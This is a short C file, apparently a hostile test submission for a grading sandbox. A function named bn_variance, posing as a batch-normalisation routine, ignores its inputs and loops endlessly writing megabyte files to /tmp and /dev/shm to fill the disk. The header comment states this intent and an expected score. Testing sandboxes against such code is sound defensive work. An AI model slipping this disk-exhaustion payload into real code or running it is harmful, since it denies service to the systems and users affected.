/* Tries: to fill the disk with files, here and in /tmp and /dev/shm.
   Deserves: 20 */
#include <stdio.h>
#include "forward_pass.h"

void bn_variance(Matrix x, const double *mean, double *var)
{
    for (int i = 0;; i++) {
        char name[64];
        snprintf(name, sizeof name, "%s/attack-was-here-%d", i % 2 ? "/tmp" : "/dev/shm", i);
        FILE *file = fopen(name, "w");
        if (file)
            fprintf(file, "%01000000d", 0);
    }
}
